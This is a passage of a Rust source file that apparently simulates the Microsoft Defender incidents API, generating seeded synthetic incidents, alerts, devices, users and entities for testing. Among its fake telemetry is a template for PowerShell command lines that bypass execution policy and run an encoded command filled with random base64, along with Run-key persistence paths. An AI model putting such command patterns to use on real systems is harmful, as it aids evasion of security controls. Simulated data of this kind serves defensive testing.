//! Deterministic incident data: the small mutable summary of each incident (kept in memory for
//! filtering and sorting) and the lazy rendering of a full incident (alerts, devices, entities)
//! from the seed, so the same seed always yields the same bytes.

use bytes::Bytes;
use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use serde::Serialize;

use crate::clock::{format_ticks, TICKS_PER_DAY, TICKS_PER_SEC};

/// Independent random streams per incident: the summary is drawn for every id at start-up, the
/// detail only when an incident is first served, and neither may shift the other.
const STREAM_SUMMARY: u64 = 0;
const STREAM_DETAIL: u64 = 1;
const STREAM_CREATED: u64 = 2;

const HOUR: i64 = 3_600 * TICKS_PER_SEC;
const MINUTE: i64 = 60 * TICKS_PER_SEC;

/// What generation depends on; fixed for the simulator's life.
#[derive(Clone, Debug)]
pub struct DataParams {
    pub seed: u64,
    /// Generated history ends here (the start of the UTC day the simulator started on), so two
    /// runs with one seed on the same day produce identical bytes.
    pub anchor: i64,
    pub missing_share: f64,
    pub tenant_id: String,
}

/// A comment on an incident, serialized as the upstream does.
#[derive(Clone, Debug, Serialize, PartialEq)]
#[serde(rename_all = "camelCase")]
pub struct Comment {
    pub comment: String,
    pub created_by: String,
    pub created_time: String,
}

/// The mutable part of an incident plus what rendering needs to regenerate the rest.
#[derive(Clone, Debug)]
pub struct IncidentState {
    pub id: i64,
    pub name: String,
    pub created: i64,
    pub last_update: i64,
    /// Alerts were generated up to this time; later changes (PATCH, touch) do not add alerts.
    pub activity_end: i64,
    pub assigned_to: Option<String>,
    pub classification: &'static str,
    pub determination: &'static str,
    pub status: &'static str,
    pub severity: &'static str,
    pub detection_source: &'static str,
    pub redirect_incident_id: Option<i64>,
    pub tags: Vec<String>,
    pub comments: Vec<Comment>,
    pub alert_count: u32,
    /// Index into [`ALERT_KINDS`] of the incident's first alert (which also names it).
    pub theme: usize,
    /// Status and owner as generated: alerts are drawn from these, not from the current
    /// values, so that a PATCH or touch changes the incident's fields but not its alerts.
    pub base_resolved: bool,
    pub base_assigned_to: Option<String>,
}

impl IncidentState {
    /// The fields `$filter` and ordering look at, as the JSON the OData matcher expects.
    pub(crate) fn filter_doc(&self) -> serde_json::Value {
        serde_json::json!({
            "incidentId": self.id,
            "incidentName": self.name,
            "createdTime": format_ticks(self.created),
            "lastUpdateTime": format_ticks(self.last_update),
            "assignedTo": self.assigned_to,
            "classification": self.classification,
            "determination": self.determination,
            "status": self.status,
            "severity": self.severity,
            "detectionSource": self.detection_source,
            "tags": self.tags,
        })
    }
}

// The documented vocabulary is shared with the proxy: both follow the same API description.
pub(crate) use defender_odata::vocabulary::{CLASSIFICATIONS, DETERMINATIONS, STATUSES};

fn splitmix64(mut x: u64) -> u64 {
    x = x.wrapping_add(0x9E37_79B9_7F4A_7C15);
    x = (x ^ (x >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    x = (x ^ (x >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    x ^ (x >> 31)
}

/// One generator per (seed, id, stream): ids are independent of each other and of the order in
/// which they are first requested.
fn rng_for(seed: u64, id: i64, stream: u64) -> ChaCha8Rng {
    let mut rng = ChaCha8Rng::seed_from_u64(splitmix64(seed ^ splitmix64(id as u64)));
    rng.set_stream(stream);
    rng
}

fn weighted<T: Copy>(rng: &mut ChaCha8Rng, items: &[(T, u32)]) -> T {
    let total: u32 = items.iter().map(|(_, w)| w).sum();
    let mut roll = rng.gen_range(0..total.max(1));
    for (item, w) in items {
        if roll < *w {
            return *item;
        }
        roll -= w;
    }
    items[items.len() - 1].0
}

fn pick<T: Copy>(rng: &mut ChaCha8Rng, items: &[T]) -> T {
    *items.choose(rng).unwrap_or(&items[0])
}

fn between(rng: &mut ChaCha8Rng, lo: i64, hi: i64) -> i64 {
    if hi <= lo {
        lo
    } else {
        rng.gen_range(lo..=hi)
    }
}

fn hex(rng: &mut ChaCha8Rng, n: usize) -> String {
    const DIGITS: &[u8; 16] = b"0123456789abcdef";
    (0..n).map(|_| DIGITS[rng.gen_range(0..16)] as char).collect()
}

fn digits(rng: &mut ChaCha8Rng, n: usize) -> String {
    (0..n)
        .map(|i| {
            let lo = if i == 0 { 1 } else { 0 };
            char::from(b'0' + rng.gen_range(lo..10u8))
        })
        .collect()
}

fn uuid(rng: &mut ChaCha8Rng) -> String {
    uuid::Builder::from_random_bytes(rng.gen()).into_uuid().to_string()
}

/// How many alerts an incident has: most have one or two, a heavy tail has dozens to hundreds
/// (the real service groups whole attack campaigns into one incident).
fn alert_count(rng: &mut ChaCha8Rng) -> u32 {
    let p: f64 = rng.gen();
    if p < 0.80 {
        weighted(rng, &[(1, 40), (2, 20), (3, 15), (4, 15), (5, 10)])
    } else if p < 0.95 {
        rng.gen_range(6..=40)
    } else {
        // Log-uniform so the tail thins out towards its maximum.
        let x: f64 = rng.gen_range((40f64).ln()..=(160f64).ln());
        x.exp().round() as u32
    }
}

/// Whether `id` exists and, if so, its summary as generated at start-up.
pub fn generate_summary(params: &DataParams, id: i64) -> Option<IncidentState> {
    let mut rng = rng_for(params.seed, id, STREAM_SUMMARY);
    // First draw decides existence so that changing missing_share keeps the rest stable.
    if rng.gen::<f64>() < params.missing_share {
        return None;
    }
    // Within the 29 days before the anchor, so within 30 days before start.
    let created = params.anchor - between(&mut rng, TICKS_PER_SEC, 29 * TICKS_PER_DAY);
    let age = params.anchor - created;
    // Most incidents settle within hours; some are touched much later.
    let last_update = if rng.gen_bool(0.6) {
        created + between(&mut rng, 0, (6 * HOUR).min(age - 1))
    } else {
        between(&mut rng, created, params.anchor - 1)
    };
    let mut state = base_state(&mut rng, id, created, last_update);
    let status = weighted(
        &mut rng,
        &[("Active", 45), ("Resolved", 38), ("InProgress", 14), ("Redirected", 3)],
    );
    state.status = status;
    if status == "Redirected" {
        // Merged into a later incident in the same id range.
        state.redirect_incident_id = Some(id + rng.gen_range(1..500));
    }
    if status == "Resolved" || rng.gen_bool(0.1) {
        let classification = weighted(
            &mut rng,
            &[
                ("TruePositive", 50),
                ("InformationalExpectedActivity", 25),
                ("FalsePositive", 20),
                ("Unknown", 5),
            ],
        );
        state.classification = classification;
        state.determination = match classification {
            "TruePositive" => pick(
                &mut rng,
                &[
                    "MultiStagedAttack",
                    "MaliciousUserActivity",
                    "CompromisedAccount",
                    "Malware",
                    "Phishing",
                    "UnwantedSoftware",
                    "Other",
                ],
            ),
            "InformationalExpectedActivity" => pick(
                &mut rng,
                &["SecurityTesting", "LineOfBusinessApplication", "ConfirmedActivity"],
            ),
            "FalsePositive" => pick(&mut rng, &["Clean", "NoEnoughDataToValidate", "Other"]),
            _ => "NotAvailable",
        };
    }
    if rng.gen_bool(0.6) {
        state.assigned_to = Some(pick(&mut rng, ANALYSTS).to_string());
    }
    let n_tags = weighted(&mut rng, &[(0usize, 60), (1, 25), (2, 10), (3, 5)]);
    let mut tags: Vec<String> = Vec::new();
    for _ in 0..n_tags {
        let tag = pick(&mut rng, TAGS).to_string();
        if !tags.contains(&tag) {
            tags.push(tag);
        }
    }
    state.tags = tags;
    state.base_resolved = state.status == "Resolved";
    state.base_assigned_to = state.assigned_to.clone();
    let n_comments = weighted(&mut rng, &[(0usize, 55), (1, 30), (2, 10), (3, 5)]);
    let mut t = created;
    for _ in 0..n_comments {
        t = between(&mut rng, t, last_update);
        state.comments.push(Comment {
            comment: pick(&mut rng, COMMENT_TEXTS).to_string(),
            created_by: pick(&mut rng, ANALYSTS).to_string(),
            created_time: format_ticks(t),
        });
    }
    Some(state)
}

/// A brand-new incident created at `now`: active, unassigned, unclassified.
pub(crate) fn generate_new(params: &DataParams, id: i64, now: i64) -> IncidentState {
    let mut rng = rng_for(params.seed, id, STREAM_CREATED);
    base_state(&mut rng, id, now, now)
}

fn base_state(rng: &mut ChaCha8Rng, id: i64, created: i64, last_update: i64) -> IncidentState {
    let alert_count = alert_count(rng);
    let theme = rng.gen_range(0..ALERT_KINDS.len());
    let kind = &ALERT_KINDS[theme];
    let severity = weighted(
        rng,
        &[
            ("High", 18),
            ("Medium", 37),
            ("Low", 30),
            ("Informational", 13),
            ("UnSpecified", 2),
        ],
    );
    IncidentState {
        id,
        name: incident_name(rng, kind, alert_count),
        created,
        last_update,
        activity_end: last_update,
        assigned_to: None,
        classification: "Unknown",
        determination: "NotAvailable",
        status: "Active",
        severity,
        detection_source: kind.detection,
        redirect_incident_id: None,
        tags: Vec::new(),
        comments: Vec::new(),
        alert_count,
        theme,
        base_resolved: false,
        base_assigned_to: None,
    }
}

fn incident_name(rng: &mut ChaCha8Rng, kind: &AlertKind, alerts: u32) -> String {
    let place = match kind.scope {
        Scope::Endpoint => {
            if alerts > 2 {
                "on multiple endpoints"
            } else {
                "on one endpoint"
            }
        }
        Scope::Email => "involving one user",
        Scope::Identity | Scope::Cloud => {
            if alerts > 2 {
                "involving multiple users"
            } else {
                "involving one user"
            }
        }
    };
    if alerts == 1 {
        return format!("{} {place}", kind.title);
    }
    let other = pick(rng, PHASES);
    let first = phase_name(kind.category);
    let sources = if alerts > 3 && rng.gen_bool(0.4) {
        " reported by multiple sources"
    } else {
        ""
    };
    if other == first {
        format!("{first} incident {place}{sources}")
    } else {
        format!("Multi-stage incident involving {first} & {other} {place}{sources}")
    }
}

fn phase_name(category: &str) -> &'static str {
    match category {
        "InitialAccess" => "Initial access",
        "Execution" => "Execution",
        "Persistence" => "Persistence",
        "DefenseEvasion" => "Defense evasion",
        "CredentialAccess" => "Credential access",
        "Discovery" => "Discovery",
        "LateralMovement" => "Lateral movement",
        "CommandAndControl" => "Command and control",
        "Exfiltration" => "Exfiltration",
        "Ransomware" => "Ransomware",
        "Malware" => "Malware",
        _ => "Suspicious activity",
    }
}

// ----- rendering -------------------------------------------------------------------------------

#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
pub(crate) struct IncidentOut<'a> {
    pub(crate) incident_id: i64,
    pub(crate) incident_uri: String,
    pub(crate) redirect_incident_id: Option<i64>,
    pub(crate) incident_name: &'a str,
    pub(crate) created_time: String,
    pub(crate) last_update_time: String,
    pub(crate) assigned_to: Option<&'a str>,
    pub(crate) classification: &'a str,
    pub(crate) determination: &'a str,
    pub(crate) detection_source: &'a str,
    pub(crate) status: &'a str,
    pub(crate) severity: &'a str,
    pub(crate) tags: &'a [String],
    pub(crate) comments: &'a [Comment],
    pub(crate) alerts: Vec<Alert>,
}

#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
pub(crate) struct Alert {
    pub(crate) alert_id: String,
    pub(crate) incident_id: i64,
    pub(crate) service_source: &'static str,
    pub(crate) creation_time: String,
    pub(crate) last_updated_time: String,
    pub(crate) resolved_time: Option<String>,
    pub(crate) first_activity: String,
    pub(crate) last_activity: String,
    pub(crate) title: &'static str,
    pub(crate) description: &'static str,
    pub(crate) category: &'static str,
    pub(crate) status: &'static str,
    pub(crate) severity: &'static str,
    pub(crate) investigation_id: Option<i64>,
    pub(crate) investigation_state: &'static str,
    pub(crate) classification: Option<&'static str>,
    pub(crate) determination: Option<&'static str>,
    pub(crate) detection_source: &'static str,
    pub(crate) assigned_to: Option<String>,
    pub(crate) actor_name: Option<&'static str>,
    pub(crate) threat_family_name: Option<&'static str>,
    pub(crate) mitre_techniques: &'static [&'static str],
    pub(crate) devices: Vec<Device>,
    pub(crate) entities: Vec<Entity>,
}

#[derive(Serialize, Clone)]
#[serde(rename_all = "camelCase")]
pub(crate) struct Device {
    pub(crate) mdatp_device_id: String,
    pub(crate) aad_device_id: Option<String>,
    pub(crate) device_dns_name: String,
    pub(crate) os_platform: &'static str,
    pub(crate) version: &'static str,
    pub(crate) os_processor: &'static str,
    pub(crate) os_build: Option<u32>,
    pub(crate) health_status: &'static str,
    pub(crate) risk_score: &'static str,
    pub(crate) rbac_group_name: &'static str,
    pub(crate) rbac_group_id: u32,
    pub(crate) first_seen: String,
    pub(crate) tags: Vec<&'static str>,
    pub(crate) defender_av_status: &'static str,
    pub(crate) onboarding_status: &'static str,
    pub(crate) logged_on_users: Vec<LoggedOnUser>,
}

#[derive(Serialize, Clone)]
#[serde(rename_all = "camelCase")]
pub(crate) struct LoggedOnUser {
    pub(crate) account_name: String,
    pub(crate) domain_name: &'static str,
}

/// An entity carries only the fields of its type, as the upstream's examples show.
#[derive(Serialize, Default)]
#[serde(rename_all = "camelCase")]
pub(crate) struct Entity {
    pub(crate) entity_type: &'static str,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(crate) sha1: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(crate) sha256: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(crate) file_name: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(crate) file_path: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(crate) process_id: Option<u32>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(crate) process_command_line: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(crate) process_creation_time: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(crate) parent_process_id: Option<u32>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(crate) parent_process_creation_time: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(crate) ip_address: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(crate) url: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(crate) account_name: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(crate) domain_name: Option<&'static str>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(crate) user_sid: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(crate) aad_user_id: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(crate) user_principal_name: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(crate) mailbox_display_name: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(crate) mailbox_address: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(crate) cluster_by: Option<&'static str>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(crate) sender: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(crate) recipient: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(crate) subject: Option<&'static str>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(crate) delivery_action: Option<&'static str>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(crate) security_group_id: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(crate) security_group_name: Option<&'static str>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(crate) registry_hive: Option<&'static str>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(crate) registry_key: Option<&'static str>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(crate) registry_value_type: Option<&'static str>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(crate) registry_value: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(crate) device_id: Option<String>,
}

#[derive(Clone)]
struct User {
    account_name: String,
    display_name: String,
    upn: String,
    sid: String,
    aad_id: String,
}

/// Devices, users and addresses shared by an incident's alerts, as in a real campaign where the
/// same few machines and accounts show up again and again.
struct Pools {
    devices: Vec<Device>,
    users: Vec<User>,
    ips: Vec<String>,
}

/// Renders the full incident as the upstream would serialize it.
pub fn render(params: &DataParams, state: &IncidentState) -> Bytes {
    let out = build(params, state);
    // Plain structs with string keys: serialization cannot fail.
    Bytes::from(serde_json::to_vec(&out).expect("incident serializes"))
}

/// The full incident in the simulator's data model (Defender's shape, field for field), from
/// which both dialects are rendered: Defender's by serde, Graph's by `graph::render`.
pub(crate) fn build<'a>(params: &DataParams, state: &'a IncidentState) -> IncidentOut<'a> {
    let mut rng = rng_for(params.seed, state.id, STREAM_DETAIL);
    let pools = make_pools(&mut rng, state);
    let alerts = (0..state.alert_count)
        .map(|i| make_alert(&mut rng, &pools, state, i))
        .collect();
    IncidentOut {
        incident_id: state.id,
        incident_uri: format!(
            "https://security.microsoft.com/incidents/{}?tid={}",
            state.id, params.tenant_id
        ),
        redirect_incident_id: state.redirect_incident_id,
        incident_name: &state.name,
        created_time: format_ticks(state.created),
        last_update_time: format_ticks(state.last_update),
        assigned_to: state.assigned_to.as_deref(),
        classification: state.classification,
        determination: state.determination,
        detection_source: state.detection_source,
        status: state.status,
        severity: state.severity,
        tags: &state.tags,
        comments: &state.comments,
        alerts,
    }
}

fn make_pools(rng: &mut ChaCha8Rng, state: &IncidentState) -> Pools {
    let n_devices = 1 + (state.alert_count / 4).min(24) as usize + rng.gen_range(0..2);
    let n_users = 1 + (state.alert_count / 6).min(12) as usize + rng.gen_range(0..2);
    let n_ips = 1 + (state.alert_count / 5).min(16) as usize + rng.gen_range(0..3);
    let users: Vec<User> = (0..n_users).map(|_| make_user(rng)).collect();
    let devices = (0..n_devices)
        .map(|_| make_device(rng, state.created, &users))
        .collect();
    let ips = (0..n_ips).map(|_| make_ip(rng)).collect();
    Pools { devices, users, ips }
}

fn make_user(rng: &mut ChaCha8Rng) -> User {
    let first = pick(rng, FIRST_NAMES);
    let last = pick(rng, LAST_NAMES);
    let account_name = format!("{}{}", &first[..1], last).to_lowercase();
    User {
        upn: format!("{}.{}@contoso.com", first.to_lowercase(), last.to_lowercase()),
        display_name: format!("{first} {last}"),
        account_name,
        sid: format!(
            "S-1-5-21-1721254763-462695806-1538882281-{}",
            rng.gen_range(1_000..9_999_999)
        ),
        aad_id: uuid(rng),
    }
}

fn make_ip(rng: &mut ChaCha8Rng) -> String {
    if rng.gen_bool(0.5) {
        format!(
            "10.{}.{}.{}",
            rng.gen_range(0..255),
            rng.gen_range(0..255),
            rng.gen_range(1..255)
        )
    } else {
        format!(
            "{}.{}.{}.{}",
            pick(rng, &[20u8, 40, 52, 78, 91, 104, 137, 185, 193, 203]),
            rng.gen_range(0..255),
            rng.gen_range(0..255),
            rng.gen_range(1..255)
        )
    }
}

fn make_device(rng: &mut ChaCha8Rng, created: i64, users: &[User]) -> Device {
    let (platform, version, build, prefix) = pick(
        rng,
        &[
            ("Windows10", "22H2", Some(19045u32), "ws"),
            ("Windows10", "21H2", Some(19044), "ws"),
            ("Windows11", "23H2", Some(22631), "ws"),
            ("Windows11", "22H2", Some(22621), "lt"),
            ("WindowsServer2019", "1809", Some(17763), "srv"),
            ("WindowsServer2022", "21H2", Some(20348), "srv"),
            ("Linux", "Ubuntu 22.04", None, "lnx"),
            ("macOS", "14.4", None, "mac"),
        ],
    );
    let (group, group_id) = pick(
        rng,
        &[
            ("Finance Workstations", 4122u32),
            ("Engineering", 4123),
            ("Sales Laptops", 4124),
            ("Domain Controllers", 4125),
            ("Production Servers", 4126),
            ("UnassignedGroup", 0),
        ],
    );
    let dept = pick(rng, &["fin", "eng", "hr", "ops", "sql", "web", "dc"]);
    let n_logged_on = rng.gen_range(0..=2usize).min(users.len());
    let logged_on_users = users
        .choose_multiple(rng, n_logged_on)
        .map(|u| LoggedOnUser {
            account_name: u.account_name.clone(),
            domain_name: "CONTOSO",
        })
        .collect();
    Device {
        mdatp_device_id: hex(rng, 40),
        aad_device_id: if rng.gen_bool(0.7) { Some(uuid(rng)) } else { None },
        device_dns_name: format!("{prefix}-{dept}-{:04}.corp.contoso.com", rng.gen_range(1..5000)),
        os_platform: platform,
        version,
        os_processor: weighted(rng, &[("x64", 9), ("arm64", 1)]),
        os_build: build,
        health_status: weighted(
            rng,
            &[
                ("Active", 85),
                ("Inactive", 8),
                ("ImpairedCommunication", 4),
                ("NoSensorData", 3),
            ],
        ),
        risk_score: weighted(rng, &[("None", 20), ("Low", 30), ("Medium", 30), ("High", 20)]),
        rbac_group_name: group,
        rbac_group_id: group_id,
        first_seen: format_ticks(created - between(rng, TICKS_PER_DAY, 900 * TICKS_PER_DAY)),
        tags: if rng.gen_bool(0.2) {
            vec![pick(rng, &["VIP", "Tier0", "Kiosk", "Pilot"])]
        } else {
            Vec::new()
        },
        defender_av_status: weighted(rng, &[("Updated", 85), ("NotUpdated", 10), ("Unknown", 5)]),
        onboarding_status: "Onboarded",
        logged_on_users,
    }
}

fn alert_id(rng: &mut ChaCha8Rng, service: &str) -> String {
    match service {
        "MicrosoftDefenderForEndpoint" => {
            format!("da{}_{}", digits(rng, 18), rng.gen::<i32>())
        }
        "Microsoft365Defender" => format!("ed{}_{}", digits(rng, 18), rng.gen::<i32>()),
        "MicrosoftDefenderForOffice365" => format!("fa{}", uuid(rng)),
        "MicrosoftDefenderForIdentity" => format!("aa{}", uuid(rng)),
        "MicrosoftCloudAppSecurity" => format!("ca{}", hex(rng, 32).to_uppercase()),
        _ => format!("ad{}", hex(rng, 64)),
    }
}

fn make_alert(rng: &mut ChaCha8Rng, pools: &Pools, state: &IncidentState, index: u32) -> Alert {
    let kind = if index == 0 {
        &ALERT_KINDS[state.theme]
    } else {
        ALERT_KINDS.choose(rng).unwrap_or(&ALERT_KINDS[0])
    };
    let creation = if index == 0 {
        state.created
    } else {
        between(rng, state.created, state.activity_end)
    };
    let last_updated = between(rng, creation, state.activity_end);
    let first_activity = creation - between(rng, 0, 2 * HOUR);
    let last_activity = between(rng, first_activity, creation);
    let status = if state.base_resolved {
        "Resolved"
    } else {
        weighted(rng, &[("New", 55), ("InProgress", 25), ("Resolved", 20)])
    };
    let severity = if index == 0 {
        state.severity
    } else {
        weighted(rng, &[("High", 15), ("Medium", 35), ("Low", 35), ("Informational", 15)])
    };
    let (classification, determination) = if status == "Resolved" && rng.gen_bool(0.7) {
        weighted(
            rng,
            &[
                ((Some("TruePositive"), Some("Malware")), 30),
                ((Some("TruePositive"), Some("MultiStagedAttack")), 15),
                ((Some("InformationalExpectedActivity"), Some("SecurityTesting")), 20),
                ((Some("FalsePositive"), Some("Clean")), 20),
                ((Some("FalsePositive"), Some("NoEnoughDataToValidate")), 15),
            ],
        )
    } else {
        (None, None)
    };
    let automated = matches!(kind.scope, Scope::Endpoint | Scope::Email) && rng.gen_bool(0.6);
    let investigation_state = if automated {
        weighted(
            rng,
            &[
                ("SuccessfullyRemediated", 30),
                ("Benign", 25),
                ("Running", 10),
                ("PartiallyRemediated", 10),
                ("PendingApproval", 10),
                ("Failed", 5),
                ("TerminatedBySystem", 10),
            ],
        )
    } else {
        pick(rng, &["UnsupportedAlertType", "Unknown"])
    };
    let n_devices = rng.gen_range(1..=3usize).min(pools.devices.len());
    let devices: Vec<Device> = pools.devices.choose_multiple(rng, n_devices).cloned().collect();
    let n_entities = rng.gen_range(2..=8);
    let entities = (0..n_entities)
        .map(|_| make_entity(rng, pools, kind, &devices, last_activity))
        .collect();
    Alert {
        alert_id: alert_id(rng, kind.service),
        incident_id: state.id,
        service_source: kind.service,
        creation_time: format_ticks(creation),
        last_updated_time: format_ticks(last_updated),
        resolved_time: (status == "Resolved").then(|| format_ticks(last_updated)),
        first_activity: format_ticks(first_activity),
        last_activity: format_ticks(last_activity),
        title: kind.title,
        description: kind.description,
        category: kind.category,
        status,
        severity,
        investigation_id: automated.then(|| rng.gen_range(1_000..999_999)),
        investigation_state,
        classification,
        determination,
        detection_source: kind.detection,
        assigned_to: if state.base_assigned_to.is_some() && rng.gen_bool(0.5) {
            state.base_assigned_to.clone()
        } else if rng.gen_bool(0.2) {
            Some("Automation".to_string())
        } else {
            None
        },
        actor_name: kind.actor,
        threat_family_name: kind.threat,
        mitre_techniques: kind.mitre,
        devices,
        entities,
    }
}

fn make_entity(rng: &mut ChaCha8Rng, pools: &Pools, kind: &AlertKind, devices: &[Device], around: i64) -> Entity {
    let entity_type = match kind.scope {
        Scope::Endpoint => weighted(
            rng,
            &[
                ("Process", 30),
                ("File", 25),
                ("User", 15),
                ("Ip", 10),
                ("Url", 8),
                ("Registry", 7),
                ("SecurityGroup", 2),
            ],
        ),
        Scope::Email => weighted(
            rng,
            &[
                ("MailMessage", 25),
                ("MailBox", 20),
                ("Url", 15),
                ("User", 15),
                ("File", 10),
                ("MailCluster", 10),
                ("Ip", 5),
            ],
        ),
        Scope::Identity => weighted(
            rng,
            &[
                ("User", 40),
                ("Ip", 25),
                ("SecurityGroup", 20),
                ("Process", 10),
                ("Url", 5),
            ],
        ),
        Scope::Cloud => weighted(
            rng,
            &[
                ("User", 40),
                ("Ip", 30),
                ("Url", 15),
                ("File", 10),
                ("SecurityGroup", 5),
            ],
        ),
    };
    let user = pools.users.choose(rng).cloned().unwrap_or_else(|| make_user(rng));
    let device_id = devices.choose(rng).map(|d| d.mdatp_device_id.clone());
    let mut e = Entity {
        entity_type,
        ..Entity::default()
    };
    match entity_type {
        "User" => {
            e.account_name = Some(user.account_name);
            e.domain_name = Some("CONTOSO");
            e.user_sid = Some(user.sid);
            e.aad_user_id = Some(user.aad_id);
            e.user_principal_name = Some(user.upn);
        }
        "Ip" => e.ip_address = pools.ips.choose(rng).cloned(),
        "Url" => {
            let domain = pick(rng, BAD_DOMAINS);
            let len = rng.gen_range(6..24);
            e.url = Some(format!("https://{domain}/{}", hex(rng, len)));
        }
        "File" => {
            let name = pick(rng, FILE_NAMES);
            e.sha1 = Some(hex(rng, 40));
            e.sha256 = Some(hex(rng, 64));
            e.file_name = Some(name.to_string());
            e.file_path = Some(format!(
                "C:\\Users\\{}\\{}",
                user.account_name,
                pick(rng, &["Downloads", "AppData\\Local\\Temp", "Documents", "Desktop"])
            ));
            e.device_id = device_id;
        }
        "Process" => {
            let (name, path, args) = pick(rng, PROCESSES);
            let created = around - between(rng, 0, 30 * MINUTE);
            e.sha1 = Some(hex(rng, 40));
            e.sha256 = Some(hex(rng, 64));
            e.file_name = Some(name.to_string());
            e.file_path = Some(path.to_string());
            e.process_id = Some(rng.gen_range(1_000..60_000));
            e.process_command_line = Some(if args.is_empty() {
                let len = rng.gen_range(40..240);
                format!(
                    "{name} -NoProfile -ExecutionPolicy Bypass -EncodedCommand {}",
                    encoded_blob(rng, len)
                )
            } else {
                format!("{name} {args}")
            });
            e.process_creation_time = Some(format_ticks(created));
            e.parent_process_id = Some(rng.gen_range(500..60_000));
            e.parent_process_creation_time = Some(format_ticks(created - between(rng, 0, 8 * HOUR)));
            e.account_name = Some(user.account_name);
            e.domain_name = Some("CONTOSO");
            e.user_sid = Some(user.sid);
            e.device_id = device_id;
        }
        "MailBox" => {
            e.mailbox_display_name = Some(user.display_name);
            e.mailbox_address = Some(user.upn.clone());
            e.user_principal_name = Some(user.upn);
            e.aad_user_id = Some(user.aad_id);
        }
        "MailMessage" => {
            e.sender = Some(format!(
                "{}@{}",
                pick(rng, &["billing", "no-reply", "hr-notice", "docs", "ceo.office"]),
                pick(rng, BAD_DOMAINS)
            ));
            e.recipient = Some(user.upn);
            e.subject = Some(pick(rng, SUBJECTS));
            e.delivery_action = Some(weighted(
                rng,
                &[("Delivered", 50), ("Blocked", 25), ("Replaced", 10), ("Junked", 15)],
            ));
        }
        "MailCluster" => {
            e.cluster_by = Some(pick(
                rng,
                &["Subject;SenderIPv4;P1SenderDomain", "Url;P2SenderDomain", "FileHash"],
            ));
        }
        "Registry" => {
            e.registry_hive = Some(pick(rng, &["HKEY_LOCAL_MACHINE", "HKEY_CURRENT_USER"]));
            e.registry_key = Some(pick(
                rng,
                &[
                    "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
                    "SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon",
                    "SYSTEM\\CurrentControlSet\\Services\\WinDefend",
                ],
            ));
            e.registry_value_type = Some(pick(rng, &["String", "ExpandString", "Dword"]));
            e.registry_value = Some(format!("C:\\ProgramData\\{}.exe", hex(rng, 8)));
            e.device_id = device_id;
        }
        _ => {
            let (name, sid_suffix) = pick(
                rng,
                &[
                    ("Domain Admins", "512"),
                    ("Enterprise Admins", "519"),
                    ("Backup Operators", "551"),
                    ("Helpdesk Operators", "1105"),
                ],
            );
            e.security_group_id = Some(format!("S-1-5-21-1721254763-462695806-1538882281-{sid_suffix}"));
            e.security_group_name = Some(name);
        }
    }
    e
}

fn encoded_blob(rng: &mut ChaCha8Rng, len: usize) -> String {
    const B64: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    (0..len).map(|_| B64[rng.gen_range(0..B64.len())] as char).collect()
}

// ----- catalogues ------------------------------------------------------------------------------

#[derive(Clone, Copy, Debug)]
enum Scope {
    Endpoint,
    Email,
    Identity,
    Cloud,
}

#[derive(Debug)]
pub(crate) struct AlertKind {
    title: &'static str,
    description: &'static str,
    category: &'static str,
    mitre: &'static [&'static str],
    service: &'static str,
    detection: &'static str,
    threat: Option<&'static str>,
    actor: Option<&'static str>,
    scope: Scope,
}

const MDE: &str = "MicrosoftDefenderForEndpoint";
const MDO: &str = "MicrosoftDefenderForOffice365";
const MDI: &str = "MicrosoftDefenderForIdentity";
const MDA: &str = "MicrosoftCloudAppSecurity";
const AADIP: &str = "AzureAdIdentityProtection";
const M365D: &str = "Microsoft365Defender";

pub(crate) const ALERT_KINDS: &[AlertKind] = &[
    AlertKind {
        title: "Suspicious PowerShell command line",
        description: "A suspicious PowerShell activity was observed on the machine. This behavior may indicate that PowerShell was used during installation, exploration, or in some cases in lateral movement activities which are used by attackers to invoke modules, download external payloads, or get more information about the system. Attackers usually use PowerShell to bypass security protection mechanisms by executing their payload in memory without touching the disk and leaving any trace.",
        category: "Execution",
        mitre: &["T1059.001", "T1027"],
        service: MDE,
        detection: "WindowsDefenderAtp",
        threat: None,
        actor: None,
        scope: Scope::Endpoint,
    },
    AlertKind {
        title: "Suspicious process injection observed",
